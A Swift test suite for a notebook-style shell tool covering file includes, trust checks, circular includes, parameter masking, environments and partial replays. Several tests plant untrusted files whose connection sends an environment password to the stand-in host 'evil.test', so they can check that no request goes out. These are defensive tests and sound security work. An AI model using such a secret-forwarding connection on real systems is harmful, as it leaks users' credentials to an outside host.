import HTTPExchange
import Shell
import TestSupport
import Testing

@Suite struct IncludeTests {
  private let bench = SessionBench()

  private func file(_ path: String, _ cells: String, words: String = "") {
    bench.files.texts[path] = "```patchbay\(words)\n\(cells)\n```\n"
  }

  /// As `:trust FILE` does at the prompt.
  private func trust(_ path: String) throws { try bench.run(":trust \(path)") }

  @Test func theCellsRunAndShowNothing() throws {
    file("base.md", "total = 5\ntotal\nFUNCTION twice(n) {\n  RETURN n * 2\n}")
    try trust("base.md")
    let cell = try bench.run("include base.md")
    #expect(cell.status == .done)
    #expect(cell.parts.isEmpty)
    #expect(try bench.output(of: "twice(total)") == "10")
    // The including cell is one cell, and what it includes none.
    #expect(bench.session.cellCount == 2)
  }

  @Test func aFailureTellsWhere() throws {
    file("base.md", "a = 1\nb = a / 0")
    try trust("base.md")
    let cell = try bench.run("include base.md\n")
    #expect(cell.status == .runtimeError)
    let text = bench.session.storedOutput(of: cell)
    #expect(text.contains("base.md:3:"), "\(text)")
    #expect(text.contains("the cell at base.md:2 fails [shell.includedCell]"), "\(text)")
  }

  @Test func aMarkedFailureIsExpected() throws {
    file("base.md", "b = 1 / 0", words: " error")
    try trust("base.md")
    #expect(try bench.status(of: "include base.md") == .done)
    file("other.md", "b = 1", words: " error")
    try trust("other.md")
    #expect(try bench.output(of: "include other.md").contains("is marked error and does not fail"))
  }

  @Test func pathsCountFromTheIncludingFile() throws {
    file("sub/outer.md", "include inner.md")
    file("sub/inner.md", "include ../lib/deep.md")
    file("lib/deep.md", "found = 1")
    for path in ["sub/outer.md", "sub/inner.md", "lib/deep.md"] { try trust(path) }
    #expect(try bench.status(of: "include sub/outer.md\n") == .done)
    #expect(try bench.output(of: "found") == "1")
  }

  @Test func aCircleIsAnError() throws {
    file("a.md", "include b.md")
    file("b.md", "include ./a.md")
    try trust("a.md")
    try trust("b.md")
    let cell = try bench.run("include a.md")
    #expect(cell.status == .invalid)
    #expect(
      bench.session.storedOutput(of: cell).contains("cannot include itself: a.md includes b.md includes a.md")
    )
    #expect(bench.replay("a.md") == .differs)
    #expect(bench.output.contains("cannot include itself"))
  }

  @Test func aMissingFileIsAFileError() throws {
    #expect(try bench.status(of: "include none.md") == .fileError)
  }

  @Test func whatNobodyVouchesForIsRefused() throws {
    file("base.md", "total = 5")
    let cell = try bench.run("include base.md")
    #expect(cell.status == .secretMissing)
    #expect(bench.session.storedOutput(of: cell).contains(":trust base.md"))
    try trust("base.md")
    #expect(try bench.status(of: "include base.md") == .done)
    // Trust is for the file as it was read.
    file("base.md", "total = 6")
    #expect(try bench.status(of: "include base.md") == .secretMissing)
  }

  /// A trusted transcript gives its secrets to nothing that others changed meanwhile.
  @Test func aTrustedTranscriptIncludesOnlyWhatIsTrusted() throws {
    file("base.md", "total = 5")
    try trust("base.md")
    try bench.run("include base.md\ntotal\n:save a.md")
    #expect(bench.replay("a.md") { $0.isLive = true } == .done, "\(bench.output)")
    file("base.md", "total = 6")
    #expect(bench.replay("a.md") { $0.isLive = true } == .secretMissing)
    #expect(
      bench.replay("a.md") {
        $0.isLive = true
        $0.trusts = true
      } == .differs)
    // Offline there are no secrets to protect.
    #expect(bench.replay("a.md") == .differs)
  }

  /// What a file says of where secrets go counts only if somebody vouches for the file.
  @Test func openTrustsNoInclude() throws {
    bench.environment["PW"] = "sword/fish"
    file("base.md", "x = 1")
    try trust("base.md")
    try bench.run("include base.md\n:save a.md")
    file(
      "base.md",
      #"connection crm { "baseUrl": "https://evil.test", "requests": { "get": { "url": "/[[pw]]" } } }"#
        + "\nsecret crm pw from env PW")
    let other = SessionBench()
    other.files.texts = bench.files.texts
    other.environment["PW"] = "sword/fish"
    try other.run(":open a.md\nconnectrequest crm get")
    #expect(other.transport.requests.isEmpty)
    #expect(try other.output(of: ":trust").contains(":trust base.md"))
    #expect(try other.status(of: "connectrequest crm get") != .done)
    #expect(other.transport.requests.isEmpty)
  }

  private static let login =
    #"connection crm { "baseUrl": "https://h.test", "requests": { "get": { "url": "/[[pw]]" } } }"#
    + "\nsecret crm pw from env PW"

  @Test func aForeignTranscriptGetsNothingOfAPrelude() throws {
    bench.environment["PW"] = "sword/fish"
    file("prelude.md", Self.login)
    try trust("prelude.md")
    file(
      "x.md",
      #"connection crm { "baseUrl": "https://evil.test", "requests": { "get": { "url": "/[[pw]]" } } }"#
        + "\nconnectrequest crm get")
    let status = bench.replay("x.md") {
      $0.isLive = true
      $0.prelude = "prelude.md"
    }
    #expect(status != .done)
    #expect(bench.transport.requests.isEmpty)
  }

  @Test func aForeignPreludeSendsNoSecretOfATrustedTranscript() throws {
    bench.environment["PW"] = "sword/fish"
    file(
      "prelude.md",
      #"connection crm { "baseUrl": "https://evil.test", "requests": { "get": { "url": "/[[pw]]" } } }"#)
    file("x.md", "secret crm pw from env PW\nconnectrequest crm get")
    try trust("x.md")
    let status = bench.replay("x.md") {
      $0.isLive = true
      $0.prelude = "prelude.md"
    }
    #expect(status == .secretMissing)
    #expect(bench.transport.requests.isEmpty)
    // With both trusted it is sent.
    try trust("prelude.md")
    bench.transport.answer(200, "{}")
    _ = bench.replay("x.md") {
      $0.isLive = true
      $0.prelude = "prelude.md"
    }
    #expect(bench.transport.requests.count == 1)
  }

  @Test func aCredentialAmongParametersIsMasked() throws {
    let value = "hunter2-long"
    try bench.run(":param password = \"\(value)\"\nx = password\n:expect password = \"\(value)\"\n:save a.md")
    #expect(bench.files.texts["a.md"]?.contains(value) == false)
    bench.files.texts["b.md"] = "```patchbay\n:param token = \"\"\n\"my {token}\"\n```\n```output\nmy\n```\n"
    #expect(
      bench.replay("b.md") {
        $0.updates = true
        _ = $0.parameters.give("token=\(value)")
      } == .done)
    #expect(bench.files.texts["b.md"]?.contains(value) == false)
    #expect(!bench.output.contains(value))
  }

  @Test func manyIncludesOfManyEnd() throws {
    let names = (0..<6).map { "f\($0).md" }
    for (index, name) in names.enumerated() {
      let next = index + 1 < names.count ? names[index + 1] : nil
      file(
        name, next.map { next in (0..<10).map { _ in "include \(next)" }.joined(separator: "\n") } ?? "x = 1")
      try trust(name)
    }
    let cell = try bench.run("include f0.md")
    #expect(cell.status == .invalid)
    #expect(bench.session.storedOutput(of: cell).contains("more than 10000 cells would be included"))
  }

  @Test func exchangesOfWhatIsIncludedAreRecordedWithTheIncludingCell() throws {
    bench.environment["PW"] = "sword/fish"
    file(
      "login.md",
      #"connection crm { "baseUrl": "https://h.test", "requests": { "get": { "url": "/x/[[pw]]" } } }"#
        + "\nsecret crm pw from env PW\nconnectrequest crm get")
    try trust("login.md")
    bench.transport.answer(200, #"{"n":1}"#)
    bench.transport.answer(200, #"{"n":2}"#)
    try bench.run("include login.md\nrequestBody.n\nconnectrequest crm get\n:save a.md")
    bench.environment = [:]
    let sent = bench.transport.requests.count
    #expect(bench.replay("a.md") == .done, "\(bench.output)")
    #expect(bench.transport.requests.count == sent)
    #expect(bench.files.texts["a.md"]?.contains("sword") == false)
    #expect(bench.files.texts["a.har"]?.contains("sword") == false)
  }

  @Test func undoTakesItBack() throws {
    file("base.md", "total = 5")
    try trust("base.md")
    try bench.run("total = 1\ninclude base.md\n:undo")
    #expect(try bench.output(of: "total") == "1")
    try bench.run("include base.md\nx = 2\n:undo")
    #expect(try bench.output(of: "total") == "5")
  }

  @Test func undoKeepsWhatAnIncludedRequestGave() throws {
    file(
      "login.md",
      #"connection crm { "baseUrl": "https://h.test", "requests": { "get": { "url": "/x" } } }"#
        + "\nconnectrequest crm get\nn = requestBody.n")
    try trust("login.md")
    bench.transport.answer(200, #"{"n":7}"#)
    try bench.run("include login.md\nx = 1")
    file("login.md", "n = 8")
    try bench.run(":undo")
    #expect(try bench.output(of: "n") == "7")
    #expect(bench.transport.requests.count == 1)
  }

  // MARK: Parameters

  @Test func aParameterHasItsDefaultOrWhatIsGiven() throws {
    file("base.md", ":param customer = \"Ada {1}\"\n:param limit = 5\nfound = \"{customer} {limit}\"")
    try trust("base.md")
    try bench.run("include base.md")
    #expect(try bench.output(of: "found") == "Ada 1 5")
    try bench.run(#"include base.md {"customer": "Bob", "limit": 7}"#)
    #expect(try bench.output(of: "found") == "Bob 7")
    try bench.run("include base.md")
    #expect(try bench.output(of: "found") == "Ada 1 5")
  }

  @Test func aReplayMayBeGivenParameters() throws {
    bench.files.texts["a.md"] =
      "```patchbay\n:param n = 1\n```\n\n```patchbay\nn\n```\n```output\n1\n```\n\n```patchbay\n:param o = \"x\"\no\n```\n"
    #expect(bench.replay("a.md") == .done)
    func replay(_ values: [String]) -> Shell.ExitStatus {
      bench.replay("a.md") { options in
        for value in values { _ = options.parameters.give(value) }
      }
    }
    #expect(replay(["n=1"]) == .done)
    #expect(replay(["N=2"]) == .differs)
    #expect(bench.output.contains("+2"))
    #expect(replay(["o={\"a\": [1]}"]) == .done)
    #expect(replay(["m=1"]) == .usage)
    #expect(bench.errors == "error: no transcript has a parameter 'm'\n", "\(bench.errors)")
    var none = ParameterValues()
    let taken = ["n", "=1", "a b=1"].filter { none.give($0) }
    #expect(taken.isEmpty)
  }

  @Test(arguments: [
    ":param", ":param n", ":param n =", ":param n + 1", ":param n.a = 1", ":param 3 = 1", ":param n = 1 +",
  ])
  func aParameterThatCannotBeReadIsAnError(_ cell: String) throws {
    #expect(try bench.status(of: cell) == .invalid)
  }

  // MARK: Environments

  @Test func aReplayMayUseAnotherEnvironment() throws {
    for host in ["dev", "test"] { bench.transport.answer(200, "\"\(host)\"") }
    try bench.run(
      #"""
      connection crm { "baseUrl": "https://[[host]].test", "requests": { "get": { "url": "/x" } } }
      :env dev { "connections": { "crm": { "variables": { "host": "dev" } } } }
      :env test { "connections": { "crm": { "variables": { "host": "test" } } } }
      :env dev
      connectrequest crm get
      :save a.md
      """#)
    #expect(bench.replay("a.md") == .done, "\(bench.output)")
    #expect(
      bench.replay("a.md") {
        $0.isLive = true
        $0.trusts = true
        $0.environment = "test"
      } == .differs)
    #expect(bench.transport.requests.last?.url == "https://test.test/x")
    #expect(bench.replay("a.md") { $0.environment = "tets" } == .usage)
    #expect(bench.errors.contains("no transcript has an environment 'tets'; did you mean 'test'?"))
  }

  // MARK: Parts of a transcript

  private static let parts =
    "```patchbay id=first\nn = 1\nn\n```\n```output\n9\n```\n\n```patchbay id=second\nn = n + 1\nn\n```\n```output\n2\n```\n\n```patchbay\nn\n```\n```output\n9\n```\n"

  @Test(
    arguments: [
      (nil, nil, Shell.ExitStatus.differs, 3), ("second", "second", .done, 2), ("2", "2", .done, 2),
      ("second", nil, .differs, 3),
      (nil, "first", .differs, 1), ("3", "2", .fileError, 0), ("secnd", nil, .fileError, 0),
      ("4", nil, .fileError, 0),
    ] as [(String?, String?, Shell.ExitStatus, Int)])
  func aPartIsReplayed(_ first: String?, _ last: String?, _ status: Shell.ExitStatus, _ cells: Int) {
    bench.files.texts["a.md"] = Self.parts
    let found = bench.replay("a.md") {
      $0.firstCell = first
      $0.lastCell = last
    }
    #expect(found == status)
    if cells > 0 { #expect(bench.output.contains("a.md: \(cells) cell"), "\(bench.output)") }
    if first == "secnd" { #expect(bench.errors.contains("did you mean 'second'?")) }
  }

  @Test func aReplayStopsAtTheFirstFailureWhenAsked() {
    bench.files.texts["a.md"] = Self.parts
    #expect(bench.replay("a.md") { $0.stopsAtFailure = true } == .differs)
    #expect(bench.output.contains("a.md: 1 cell, 1 of them differs"), "\(bench.output)")
  }
}
